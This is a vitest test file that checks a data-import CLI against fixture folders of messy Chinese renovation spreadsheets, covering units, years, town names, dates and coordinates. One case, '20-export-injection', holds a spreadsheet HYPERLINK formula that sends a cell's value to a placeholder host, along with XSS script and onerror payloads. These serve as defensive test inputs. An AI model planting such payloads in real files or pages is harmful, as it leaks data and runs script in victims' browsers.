// Every folder of the field cases (tests/fixtures/field-cases, copied from ../shared/field-cases) through the CLI's
// read path (readInputs → importFiles), checked against what its README says. A folder without a case here fails
// the last test, so a new kind of file cannot be forgotten. Round 3 is field-cases-r3.test.ts.
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { importFiles } from '../../../src/lib/ingest/import';
import type { Problem } from '../../../src/lib/ingest/problems';
import { geo, load, locate } from './load';

/** The repository's copy, read from the repository's root whatever the working directory (vitest runs there). */
const ROOT = join(import.meta.dirname, '../../fixtures/field-cases');
const folder = (name: string) => `${ROOT}/${name}`;
const file = (name: string, f: string) => `${ROOT}/${name}/${f}`;
const kinds = (ps: Problem[]) => ps.map((p) => p.kind);
const THREE = ['FC001', 'FC002', 'FC003'];
const AREAS = [18000, 24000, 9000];
const HOUSEHOLDS = [140, 190, 80];

/** The three communities every accepted case must give, exactly. */
async function expectThree(paths: string[]) {
	const r = await load(paths);
	expect(r.errors).toEqual([]);
	const c = r.dataset.communities;
	expect(c.map((x) => x.id)).toEqual(THREE);
	expect(c.map((x) => x.building_area)).toEqual(AREAS);
	expect(c.map((x) => x.households)).toEqual(HOUSEHOLDS);
	expect(c.map((x) => x.town_code)).toEqual(['330382002', '330382003', '330382114']);
	return r;
}

const tested = new Set<string>();
const fieldCase = (name: string, fn: () => Promise<void>) => {
	tested.add(name);
	it(name, fn);
};

/** Every file under `dir`, relative to it, sorted. */
export function filesUnder(dir: string, at = ''): string[] {
	return readdirSync(join(dir, at))
		.sort()
		.flatMap((f) =>
			statSync(join(dir, at, f)).isDirectory() ? filesUnder(dir, join(at, f)) : [join(at, f)]
		);
}

describe('field cases (tests/fixtures/field-cases/README.md)', () => {
	fieldCase('01-title-row', async () => {
		const r = await expectThree([folder('01-title-row')]);
		const found = r.notices.filter((n) => n.kind === 'header-found');
		expect(found.map((n) => [n.sheet, n.row])).toEqual([['小区', 2]]);
		expect(found[0]!.zh).toContain('表头在第2行');
	});

	fieldCase('02-blank-comma-rows', async () => {
		const r = await expectThree([folder('02-blank-comma-rows')]);
		expect(kinds(r.notices)).toEqual(['blank-rows']);
	});

	fieldCase('03-total-row-footnote', async () => {
		const r = await expectThree([folder('03-total-row-footnote')]);
		expect(kinds(r.notices)).toEqual(['total-row', 'footnote']);
		expect(r.notices.map((n) => n.row)).toEqual([5, 6]);
		expect(r.input.unplaced).toEqual([]); // 序号 ignored, not offered for mapping
	});

	fieldCase('04-units-wan', async () => {
		const r = await load([folder('04-units-wan')]);
		expect(r.dataset.communities).toEqual([]);
		const suspects = r.errors.filter((e) => e.kind === 'unit-suspect');
		expect(suspects).toHaveLength(r.errors.length); // no follow-on errors
		expect(suspects.map((e) => [e.file, e.row, e.column, e.value])).toEqual([
			['communities.csv', 2, '建筑面积', '1.8'],
			['communities.csv', 2, '专有部分面积', '1.55'],
			['communities.csv', 3, '建筑面积', '2.4'],
			['communities.csv', 3, '专有部分面积', '2.1'],
			['communities.csv', 4, '建筑面积', '0.9'],
			['communities.csv', 4, '专有部分面积', '0.78'],
			['works.csv', 2, '概算金额', '120.5'],
			['works.csv', 3, '概算金额', '86'],
			['works.csv', 4, '概算金额', '35.2']
		]);
		for (const e of suspects.filter((x) => x.file === 'communities.csv')) {
			expect(e.zh).toContain('像是以万平方米为单位');
			expect(e.en).toContain('looks like 万平方米');
		}
		for (const e of suspects.filter((x) => x.file === 'works.csv'))
			expect(e.zh).toContain('像是以万元为单位');
	});

	fieldCase('05-year-as-text', async () => {
		const r = await load([folder('05-year-as-text')]);
		// 1990年代: the last year of the decade, said in a notice (data/README.md, "建成年代")
		expect(r.dataset.communities.map((c) => [c.id, c.completion_year])).toEqual([
			['FC001', 1999],
			['FC002', 1998]
		]);
		expect(r.notices.map((n) => [n.kind, n.row, n.value])).toEqual([['decade', 2, '1990年代']]);
		expect(r.errors.map((e) => [e.row, e.column, e.value, e.kind])).toEqual([
			[4, '建成年份', '八十年代末', 'unreadable-year']
		]);
		expect(r.errors[0]!.zh).toContain('「八十年代末」');
	});

	fieldCase('06-town-short-names', async () => {
		for (const f of ['communities.csv', 'communities-12digit.csv']) {
			const r = await expectThree([file('06-town-short-names', f)]);
			expect(kinds(r.notices)).toEqual(['town-mapped', 'town-mapped', 'town-mapped']);
		}
		const r = await load([file('06-town-short-names', 'communities.csv')]);
		expect(r.notices.map((n) => [n.row, n.value, n.zh])).toEqual([
			[2, '乐成', '「乐成」按乐成街道（330382002）读取'],
			[3, '城南街道办事处', '「城南街道办事处」按城南街道（330382003）读取'],
			[4, '1.柳市镇', '「1.柳市镇」按柳市镇（330382114）读取']
		]);
		// a name that fits two towns is refused naming both
		const text = readFileSync(file('06-town-short-names', 'communities.csv'), 'utf8').replace(
			',乐成,',
			',城,'
		);
		const ambiguous = await importFiles([{ name: 'c.csv', bytes: new TextEncoder().encode(text) }], {
			defaultTowns: geo.towns,
			locate
		});
		const error = ambiguous.problems.find((p) => p.level === 'error')!;
		expect([error.row, error.kind]).toEqual([2, 'town-ambiguous']);
		expect(error.zh).toContain('城东街道（330382001）');
		expect(error.zh).toContain('城南街道（330382003）');
	});

	fieldCase('07-cn-date-format', async () => {
		const r = await expectThree([folder('07-cn-date-format')]);
		expect(r.dataset.stage_events.map((e) => e.date)).toEqual(['2024-03-01', '2024-05-31', '2024-04-15']);
	});

	fieldCase('10-percent-satisfaction', async () => {
		const r = await expectThree([folder('10-percent-satisfaction')]);
		expect(r.dataset.communities.map((c) => c.satisfaction)).toEqual([92, 87.5, 60]);
	});

	fieldCase('13-geojson-bom', async () => {
		const r = await expectThree([folder('13-geojson-bom')]);
		expect(r.input.townRegionsFile).toBe('乡镇街道边界.geojson');
		const bytes = readFileSync(file('13-geojson-bom', '乡镇街道边界.geojson'));
		expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
		const plain = await importFiles([{ name: 'b.geojson', bytes: bytes.subarray(3) }], {
			defaultTowns: geo.towns
		});
		expect(plain.townRegions).toEqual(r.input.townRegions);
	});

	fieldCase('17-xls-et', async () => {
		for (const f of ['旧改台账.xls', '旧改台账.et', '旧改台账-改名.xlsx']) {
			const r = await expectThree([file('17-xls-et', f)]);
			expect(r.notices).toEqual([]);
		}
	});

	fieldCase('19-lat-lon-swapped', async () => {
		const r = await load([folder('19-lat-lon-swapped')]);
		expect(r.dataset.communities.map((c) => c.id)).toEqual(['FC001', 'FC003']);
		expect(r.errors.map((e) => [e.row, e.kind, e.value])).toEqual([[3, 'lat-lon-swapped', '28.1, 120.97']]);
		expect(r.errors[0]!.zh).toContain('填反');
	});

	fieldCase('20-export-injection', async () => {
		// imported as text, exactly; the exports' round trip is tested with the export helper
		const r = await load([folder('20-export-injection')]);
		expect(r.errors).toEqual([]);
		expect(r.dataset.communities.map((c) => [c.name, c.address])).toEqual([
			['=HYPERLINK("http://example.invalid/?x="&A1,"点此查看")', '-3幢'],
			['<img src=x onerror="window.__xss=1">试验二村', '<script>window.__xss2=1</script>'],
			['+86试验三村', '柳市镇示例路3号']
		]);
	});

	fieldCase('24-duplicate-community', async () => {
		const r = await load([folder('24-duplicate-community')]);
		expect(r.errors.map((e) => [e.row, e.kind, e.value])).toEqual([[5, 'duplicate', 'FC0001']]);
		expect(r.errors[0]!.zh).toContain('第2行');
		expect(r.errors[0]!.zh).toContain('FC001');
	});

	it("the repository's copies are the shared folder's files, byte for byte (when ../shared is there)", () => {
		for (const name of ['field-cases', 'field-cases-r3']) {
			const shared = join(import.meta.dirname, '../../../../shared', name);
			const mine = join(import.meta.dirname, '../../fixtures', name);
			if (!existsSync(shared)) continue; // a clone elsewhere: the copies are the source
			const theirs = filesUnder(shared);
			expect(filesUnder(mine).filter((f) => f !== 'SOURCE.md')).toEqual(theirs);
			for (const f of theirs)
				expect(readFileSync(join(mine, f)).equals(readFileSync(join(shared, f))), f).toBe(true);
		}
	});

	it('every folder of field-cases has its case here', () => {
		const folders = readdirSync(ROOT, { withFileTypes: true })
			.filter((d) => d.isDirectory())
			.map((d) => d.name);
		expect(folders.filter((f) => !tested.has(f))).toEqual([]);
	});
});
